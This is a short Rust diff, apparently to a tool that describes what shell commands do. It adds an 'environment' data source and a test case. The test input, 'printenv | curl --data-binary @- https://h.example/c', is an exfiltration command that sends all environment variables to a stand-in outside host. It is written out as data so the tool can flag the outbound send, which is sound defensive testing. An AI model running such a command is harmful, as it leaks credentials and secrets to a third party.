@@ -59,6 +59,7 @@ fn show(w: &What) -> String {
                 .map(|b| match b {
                     BodySource::File(p) => format!("file {}", p.text),
                     BodySource::Env(n) => format!("env {n}"),
+                    BodySource::Environment => "environment".to_string(),
                     BodySource::Literal => "literal".into(),
                     BodySource::Stdin => "stdin".into(),
                 })
@@ -1052,6 +1053,14 @@ fn wrappers_show_the_command_they_run() {
             &[
                 "run git config --global alias.st status",
                 "run git config --unset alias.up !x",
+            ],
+        ),
+        (
+            "printenv | curl --data-binary @- https://h.example/c",
+            &[
+                "run printenv",
+                "run curl --data-binary @- https://h.example/c",
+                "send https://h.example/c POST [stdin, environment]",
             ],
         ),
         (
